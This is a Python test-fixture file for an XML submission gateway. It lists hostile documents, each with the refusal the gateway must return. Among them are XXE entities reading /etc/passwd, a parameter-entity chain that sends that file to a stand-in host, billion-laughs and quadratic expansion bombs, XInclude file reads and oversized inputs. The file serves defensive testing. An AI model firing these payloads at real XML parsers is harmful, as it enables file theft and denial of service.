"""Documents that attack, each with the refusal it must earn."""

import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from gateway.errors import GatewayError, HostileXml, NotXml, TooLarge, WrongEncoding

EXAMPLE = Path(__file__).parents[2] / "xsd/ag-wohnsitz/1.0/examples/valid/aschaffenburg-einzelperson.xml"

MIB = 1024 * 1024


@dataclass(frozen=True, slots=True)
class Evil:
    """An attack: what it tries, how to write it, what it earns, and what it may cost in the end."""

    tries: str
    write: Callable[[], bytes]
    earns: type[GatewayError]
    says: str = ""
    """in the English sentence"""
    seconds: float = 1.0
    """of processor time"""
    mebibytes: float = 24


@dataclass(frozen=True, slots=True)
class Odd:
    """A document that is judged although it tries something, and the verdict it gets for it."""

    tries: str
    write: Callable[[], bytes]
    valid: bool
    seconds: float = 1.0
    mebibytes: float = 24


AWAY = "127.0.0.1:9"
"""an address that nobody should visit; tests put one there at which somebody listens"""


def _laughing(end: str, sign: str = "&", kind: str = "") -> Callable[[], bytes]:
    """A billion laughs: ten levels of ten entities each."""
    levels = "".join(f'<!ENTITY {kind}l{n} "{f"{sign}l{n - 1};" * 10}">' for n in range(1, 10))
    document = f'<!DOCTYPE a [<!ENTITY {kind}l0 "ha">{levels}{end}'.encode()
    return lambda: document


def quadratic() -> bytes:
    """One long entity, used often: no recursion, and a gigabyte all the same."""
    return f'<!DOCTYPE a [<!ENTITY l "{"x" * 50_000}">]><a>{"&l;" * 20_000}</a>'.encode()


def widened(change: Callable[[str], str]) -> bytes:
    """The valid example, changed."""
    return change(EXAMPLE.read_text()).encode()


def _subset(*declarations: str, used: str = "<a>&x;</a>") -> Callable[[], bytes]:
    document = ("<!DOCTYPE a [" + "".join(declarations) + f"]>{used}").encode()
    return lambda: document


def _at_name(what: str) -> Callable[[], bytes]:
    return lambda: widened(lambda text: text.replace("<vornamen>Erika</vornamen>", f"<vornamen>{what}</vornamen>"))


def _with_hint(attributes: str) -> Callable[[], bytes]:
    xsi = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    root = "<w:wohnsitz.anmeldung.0100 "
    return lambda: widened(lambda text: text.replace(root, f"{root}{xsi} {attributes} "))


MANY_NAMESPACES = " ".join(f'xmlns:n{n}="u"' for n in range(30_000))

DOCUMENT_TYPES = (
    Evil("a document type", lambda: b"<!DOCTYPE a><a/>", HostileXml),
    Evil("a document type behind comments", lambda: b"<!-- <a/> --> \n<!-- x --><!DOCTYPE a []><a/>", HostileXml),
    Evil("a document type behind an instruction", lambda: b"<?x <a/>?><!DOCTYPE a><a/>", HostileXml),
    Evil("a document type behind a mark", lambda: b"\xef\xbb\xbf<?xml version='1.0'?><!DOCTYPE a><a/>", HostileXml),
    Evil(
        "a document type behind many blanks", lambda: b"\n" * 10 * MIB + b"<!DOCTYPE a><a/>", HostileXml, mebibytes=48
    ),
    Evil(
        "a document type behind many comments",
        lambda: b"<!---->" * 900_000 + b"<!DOCTYPE a><a/>",
        HostileXml,
        seconds=2,
    ),
    Evil("a document type that does not end", lambda: b"<!DOCTYPE a [" + b"<!ENTITY x 'y'>" * 100_000, HostileXml),
    Evil("an external subset", lambda: b'<!DOCTYPE a SYSTEM "http://127.0.0.1:9/a.dtd"><a/>', HostileXml),
    Evil(
        "a subset with a public name", lambda: b'<!DOCTYPE a PUBLIC "-//a//EN" "http://127.0.0.1:9/a"><a/>', HostileXml
    ),
    Evil("an external entity", _subset('<!ENTITY x SYSTEM "file:///etc/passwd">'), HostileXml),
    Evil("an external entity on the network", _subset('<!ENTITY x SYSTEM "http://127.0.0.1:9/">'), HostileXml),
    Evil("an external entity by FTP", _subset('<!ENTITY x SYSTEM "ftp://127.0.0.1:9/">'), HostileXml),
    Evil("an entity with a public name", _subset('<!ENTITY x PUBLIC "x" "http://127.0.0.1:9/">'), HostileXml),
    Evil("a parameter entity", _subset('<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;', used="<a/>"), HostileXml),
    Evil("a parameter entity on the network", _subset('<!ENTITY % x SYSTEM "http://127.0.0.1:9/x">%x;'), HostileXml),
    Evil(
        "parameter entities that carry a file away",
        _subset(
            '<!ENTITY % f SYSTEM "file:///etc/passwd">',
            "<!ENTITY % e \"<!ENTITY &#x25; s SYSTEM 'http://127.0.0.1:9/?%f;'>\">%e;%s;",
            used="<a/>",
        ),
        HostileXml,
    ),
    Evil("an entity in an attribute", _subset('<!ENTITY x "y">', used='<a b="&x;"/>'), HostileXml),
    Evil("an entity as default of an attribute", _subset('<!ATTLIST a b CDATA "&x;">', used="<a/>"), HostileXml),
    Evil("an entity that is no XML", _subset('<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "x" NDATA n>'), HostileXml),
    Evil("entities that hold each other", _subset('<!ENTITY x "&y;"><!ENTITY y "&x;">'), HostileXml),
    Evil("a billion laughs", _laughing("]><a>&l9;</a>"), HostileXml),
    Evil("a billion laughs in an attribute", _laughing("]><a b='&l9;'/>"), HostileXml),
    Evil("a billion laughs of parameters", _laughing("%l9;]><a/>", "%", "% "), HostileXml),
    Evil("a quadratic blow-up", quadratic, HostileXml),
    Evil("a document type in UTF-16", lambda: "<!DOCTYPE a><a/>".encode("utf-16-be"), WrongEncoding),
    Evil(
        "a document type in UTF-7",
        lambda: b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a><a/>',
        WrongEncoding,
    ),
)
"""Entities of every kind, and what they unfold to."""

INSTRUCTIONS = (
    Evil("a stylesheet to fetch", lambda: b"<?xml-stylesheet href='http://127.0.0.1:9/'?><a/>", HostileXml),
    Evil("a schema to fetch", lambda: b"<?xml-model href='http://127.0.0.1:9/'?><a/>", HostileXml),
    Evil("an instruction inside", lambda: b"<a><b/><?php echo 1?></a>", HostileXml),
    Evil("an instruction behind the root", lambda: b"<?xml version='1.0'?><a/><?x?>", HostileXml),
    Evil("half a million instructions", lambda: b"<a>%s</a>" % (b"<?x?>" * 500_000), HostileXml, mebibytes=128),
    Evil("a huge instruction", lambda: b"<a><?x %s?></a>" % (b"x" * 11 * MIB), TooLarge, mebibytes=48),
)

TOO_MUCH = (
    Evil("nesting without end", lambda: b"<a>" * 100_000 + b"</a>" * 100_000, HostileXml, "256 levels"),
    Evil(
        "a crowd of attributes",
        lambda: b"<a %s/>" % b" ".join(b'a%d=""' % n for n in range(200_000)),
        HostileXml,
        "1000 attributes",
        mebibytes=128,
    ),
    Evil("a million attributes", lambda: b"<a %s/>" % b" ".join(b'a%d=""' % n for n in range(1_000_000)), TooLarge),
    Evil(
        "a crowd of namespaces",
        lambda: widened(lambda text: text.replace("<w:anmeldung>", f"<w:anmeldung {MANY_NAMESPACES}>")),
        HostileXml,
        "namespaces",
        mebibytes=48,
    ),
    Evil("millions of elements", lambda: b"<a>%s</a>" % (b"<a/>" * 2_000_000), TooLarge),
    Evil("a huge text", lambda: b"<a>%s</a>" % (b"x" * 11 * MIB), TooLarge, "beside the document", mebibytes=48),
    Evil("a huge attribute", lambda: b"<a b='%s'/>" % (b"x" * 11 * MIB), TooLarge, "too long", mebibytes=48),
    Evil("a huge name", lambda: b"<%s/>" % (b"x" * 100_000), TooLarge),
    Evil("a huge body", lambda: b"<a>%s</a>" % (b"<b>x</b>\n" * 3 * MIB), TooLarge, "beside the document"),
    Evil("a huge comment", lambda: b"<a><!--%s--></a>" % (b"x" * 11 * MIB), TooLarge, "too long", mebibytes=48),
    Evil("a huge section", lambda: b"<a><![CDATA[%s]]></a>" % (b"x" * 11 * MIB), TooLarge, "too long", mebibytes=48),
    Evil(
        "an attachment in the middle of the document",
        _at_name("QUJD" * 3 * MIB),
        TooLarge,
        "Attachments belong beside the document, as files of their own.",
        mebibytes=48,
    ),
)

ENCODINGS = (
    Evil("UTF-16", lambda: '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16"), WrongEncoding),
    Evil("UTF-16 without a mark", lambda: "<a/>".encode("utf-16-le"), WrongEncoding),
    Evil("UTF-32", lambda: '<?xml version="1.0" encoding="UTF-32"?><a/>'.encode("utf-32"), WrongEncoding),
    Evil("UTF-32 without a mark", lambda: "<a/>".encode("utf-32-be"), WrongEncoding),
    Evil("UTF-7", lambda: b'<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-', WrongEncoding),
    Evil("UTF-7 that says nothing", lambda: b"+ADw-a/+AD4-", NotXml),
    Evil("an unknown encoding", lambda: b'<?xml version="1.0" encoding="x-none"?><a/>', WrongEncoding),
    Evil("the mark of UTF-16 before UTF-8", lambda: b"\xff\xfe<a/>", WrongEncoding),
    Evil("the mark of UTF-32 before UTF-8", lambda: b"\x00\x00\xfe\xff<a/>", WrongEncoding),
    Evil("the mark of UTF-8 before UTF-16", lambda: b"\xef\xbb\xbf" + "<a/>".encode("utf-16-le"), NotXml),
    Evil("two marks", lambda: b"\xef\xbb\xbf\xef\xbb\xbf<a/>", NotXml),
    Evil("overlong UTF-8", lambda: b"<a>\xc0\xbc</a>", WrongEncoding),
    Evil("a surrogate", lambda: b"<a>\xed\xa0\x80</a>", WrongEncoding),
)

NO_XML = (
    Evil("a zero byte", lambda: b"<a>\x00</a>", NotXml),
    Evil("a zero byte in a name", lambda: b"<a\x00b/>", NotXml),
    Evil("a zero byte in an attribute", lambda: b"<a b='\x00'/>", NotXml),
    Evil("a zero byte at the end", lambda: b"<a/>\x00", NotXml),
    Evil("a zero byte at the beginning", lambda: b"\x00<a/>", WrongEncoding),
    Evil("zero bytes only", lambda: b"\x00" * 100, NotXml),
    Evil("a reference to a zero byte", lambda: b"<a>&#0;</a>", NotXml),
    Evil("a control character", lambda: b"<a>&#8;</a>", NotXml),
    Evil("an early end", lambda: EXAMPLE.read_bytes()[:1500], NotXml),
    Evil("an end inside a character", lambda: "<a>ä".encode()[:-1], NotXml),
    Evil("nothing", lambda: b"", NotXml),
    Evil("blanks", lambda: b" \n" * 1000, NotXml),
    Evil("two roots", lambda: b"<a/><a/>", NotXml),
    Evil("JSON", lambda: b'{"antrag": true}', NotXml),
    Evil("a PDF", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3", NotXml),
    Evil("XML 2.0", lambda: b'<?xml version="2.0"?><a/>', NotXml),
    Evil("XML 1.7", lambda: b'<?xml version="1.7"?><a/>', NotXml),
)

REFUSED = (*DOCUMENT_TYPES, *INSTRUCTIONS, *TOO_MUCH, *ENCODINGS, *NO_XML)
"""What never becomes a document."""

_INCLUDE = 'xmlns:xi="http://www.w3.org/2001/XInclude"'

REACHING = (
    Odd(
        "a hint at a schema",
        _with_hint(
            'xsi:schemaLocation="urn:antragsgateway:xsd:wohnsitz:1.0 http://127.0.0.1:9/w urn:x http://127.0.0.1:9/x"'
        ),
        True,
    ),
    Odd(
        "a hint at a schema without namespace",
        _with_hint('xsi:noNamespaceSchemaLocation="http://127.0.0.1:9/x.xsd"'),
        True,
    ),
    Odd(
        "a hint at a file",
        _with_hint('xsi:schemaLocation="urn:antragsgateway:xsd:wohnsitz:1.0 file:///etc/passwd"'),
        True,
    ),
    Odd("an inclusion from the network", _at_name(f'<xi:include {_INCLUDE} href="http://127.0.0.1:9/x"/>'), False),
    Odd("an inclusion of text", _at_name(f'<xi:include {_INCLUDE} parse="text" href="http://127.0.0.1:9/"/>'), False),
    Odd("an inclusion of a file", _at_name(f'<xi:include {_INCLUDE} parse="text" href="file:///etc/passwd"/>'), False),
    Odd(
        "an inclusion with something to fall back to",
        _at_name(f'<xi:include {_INCLUDE} href="http://127.0.0.1:9/"><xi:fallback>Erika</xi:fallback></xi:include>'),
        False,
    ),
    Odd("an inclusion of itself", _at_name(f'<xi:include {_INCLUDE} href=""/>'), False),
    Odd(
        "an address as base",
        lambda: widened(lambda text: text.replace("<w:person>", '<w:person xml:base="http://127.0.0.1:9/">')),
        False,
    ),
)
"""What names something elsewhere, in ways that are XML: nobody goes there."""


def _items(text: str) -> str:
    return text.replace("<erreichbarkeit>", "<erreichbarkeit/>" * 100_000 + "<erreichbarkeit>")


def _unknown(text: str) -> str:
    return text.replace("<leser>", "<leser>" + "".join(f"<x{n}/>" for n in range(100_000)))


def _attributes(length: int) -> Callable[[str], str]:
    crowd = " ".join(f"a{n}='{'1' * length}'" for n in range(900))
    return lambda text: text.replace("<w:person>", f"<w:person {crowd}>")


def _children(text: str) -> str:
    return text.replace("<w:person>", "<w:person>" + "<x><y/></x>" * 50_000)


def _of_nothing_but(value: str) -> Callable[[], bytes]:
    return lambda: widened(lambda text: re.sub(r"(?<=>)[^<>\s][^<>]*(?=</)", value * 50_000, text))


_FILLINGS = ("9", "a", "ä", "A-", "/?", "%", " ")

SLOW = (
    Odd("a hundred thousand wrong items", lambda: widened(_items), False, 4, 64),
    Odd("a hundred thousand unknown names", lambda: widened(_unknown), False, 4, 64),
    Odd("a hundred thousand elements in the wrong place", lambda: widened(_children), False, 4, 64),
    Odd("nine hundred forbidden attributes", lambda: widened(_attributes(1)), False, 4),
    Odd("nine hundred long forbidden attributes", lambda: widened(_attributes(10_000)), False, 4, 64),
    *(Odd(f"values of nothing but {value!r}", _of_nothing_but(value), False, 4, 64) for value in _FILLINGS),
    Odd("as many elements as are borne", lambda: b"<a>%s</a>" % (b"<b/>" * 999_000), False, 8, 256),
    Odd("as many comments as are borne", lambda: b"<a>%s</a>" % (b"<!---->" * 999_000), False, 4, 64),
    Odd("as many attributes as are borne", lambda: b"<a>%s</a>" % (b'<b c="" d=""/>' * 330_000), False, 8, 256),
    Odd("a value of references only", _at_name("&#65;" * 100_000), False, 4, 64),
)
"""What is XML, and made to keep the judge busy."""


READABLE = {
    "UTF-16": lambda text: declared(text, "UTF-16").encode("utf-16"),
    "UTF-16 without a declaration": lambda text: declared(text, None).encode("utf-16"),
    "UTF-16BE": lambda text: b"\xfe\xff" + declared(text, "UTF-16").encode("utf-16-be"),
    "UTF-16LE without a mark": lambda text: declared(text, "UTF-16LE").encode("utf-16-le"),
    "ISO-8859-1": lambda text: declared(text, "ISO-8859-1").encode("iso-8859-1", "xmlcharrefreplace"),
    "Windows-1252": lambda text: declared(text, "windows-1252").encode("cp1252", "xmlcharrefreplace"),
}
"""Encodings that Xerces reads; a valid document in one of them is valid."""

UNREADABLE = {
    "UTF-16 that says it is UTF-8": lambda text: declared(text, "UTF-8").encode("utf-16"),
    "UTF-8 that says it is UTF-16": lambda text: declared(text, "UTF-16").encode(),
    "UTF-16LE that says it is UTF-16BE": lambda text: b"\xff\xfe" + declared(text, "UTF-16BE").encode("utf-16-le"),
    "UTF-16 without mark and declaration": lambda text: declared(text, None).encode("utf-16-le"),
    "UTF-16 with half a character": lambda text: declared(text, "UTF-16").encode("utf-16")[:-1],
    "UTF-16 with half a pair": lambda text: declared(text, "UTF-16").encode("utf-16") + b"\x00\xd8",
    "UTF-32": lambda text: declared(text, "UTF-32").encode("utf-32"),
    "UTF-32BE": lambda text: declared(text, "UTF-32BE").encode("utf-32-be"),
    "UTF-7": lambda text: declared(text, "UTF-7").encode("utf-7"),
    "EBCDIC": lambda text: declared(text, "IBM037").encode("cp037", "xmlcharrefreplace"),
    "the wrong mark": lambda text: b"\xff\xfe" + declared(text, None).encode(),
    "two marks": lambda text: b"\xef\xbb\xbf\xef\xbb\xbf" + declared(text, None).encode(),
}
"""Encodings that are none, are not read, or are not what the document says."""


def declared(text: str, encoding: str | None) -> str:
    """The document with another declaration, or none."""
    body = text.partition("?>")[2].lstrip()
    return f'<?xml version="1.0" encoding="{encoding}"?>\n{body}' if encoding else body
